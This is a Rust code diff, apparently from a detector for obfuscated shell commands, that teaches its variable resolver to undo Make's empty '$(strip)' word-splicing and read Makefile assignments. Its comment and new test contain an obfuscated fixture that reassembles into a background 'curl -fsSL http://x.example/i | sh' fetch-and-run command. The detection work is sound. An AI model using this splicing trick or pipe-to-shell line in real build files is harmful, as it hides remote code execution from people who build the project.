@@ -340,6 +340,28 @@ fn variables(text: &str) -> HashMap<String, String> {
         r#"(?m)(?:^|;|&&)[ \t]*(?:(?:export|local|set|declare|readonly|var|let|const|my|override)[ \t]+)?\$?([A-Za-z_][A-Za-z0-9_]{0,40})[ \t]*[:?+]?=[ \t]*(?:(?:"[^"\n]*"|'[^'\n]*')+|[^ \t\n"';&|]{1,200})"#,
     );
     let mut vars = HashMap::new();
+    // `FETCH = cu$(strip )rl -fsSL`: Make's empty function calls splice words, and a
+    // Makefile's value runs to the end of its line.
+    let make = text.contains(".PHONY") || text.contains("$(strip");
+    let unspliced;
+    let text = if make && text.contains("$(strip") {
+        static STRIP: OnceLock<Regex> = OnceLock::new();
+        unspliced = re(&STRIP, r"\$\(strip\s*\)").replace_all(text, "");
+        &*unspliced
+    } else {
+        text
+    };
+    if make {
+        static MAKE: OnceLock<Regex> = OnceLock::new();
+        let assignment = re(
+            &MAKE,
+            r"(?m)^([A-Za-z_][A-Za-z0-9_]{0,40})[ \t]*(?:::?=|\?=|\+=|!=|=)[ \t]*([^\n#]{1,200})$",
+        );
+        for c in assignment.captures_iter(text).take(256) {
+            let value = substitute(c[2].trim_end(), &vars);
+            vars.insert(c[1].to_string(), value);
+        }
+    }
     // The match is split by hand: a capturing search per assignment costs far more
     // than the match itself.
     for m in r.find_iter(text).take(256) {
@@ -354,6 +376,9 @@ fn variables(text: &str) -> HashMap<String, String> {
         let name = name
             .trim_start_matches([';', '&', '$'])
             .trim_end_matches([':', '?', '+']);
+        if make && vars.contains_key(name) {
+            continue;
+        }
         let rhs = rhs.trim_start_matches([' ', '\t']);
         // A long quoted value is data (a blob, a document), not a piece of a command;
         // counted repetition in the pattern would cost more than this check.
@@ -1067,5 +1092,19 @@ mod tests {
             assemble("c\\u\\r\\l x", &HashMap::new()).as_deref(),
             Some("curl x")
         );
+    }
+
+    #[test]
+    fn makefile_values_run_to_the_end_of_the_line_and_empty_calls_splice() {
+        let mk = ".PHONY: tools\nFETCH = cu$(strip )rl -fsSL\nRUN := s$(strip)h\nURL ?= http://x.example/i\n";
+        let vars = variables(mk);
+        assert_eq!(vars["FETCH"], "curl -fsSL");
+        assert_eq!(vars["RUN"], "sh");
+        assert_eq!(
+            assemble("\t@($(FETCH) $(URL) | $(RUN)) &", &vars).as_deref(),
+            Some("\t@(curl -fsSL http://x.example/i | sh) &")
+        );
+        // Not a Makefile: a shell value ends at the first blank.
+        assert_eq!(variables("X=cu rl\n")["X"], "cu");
     }
 }
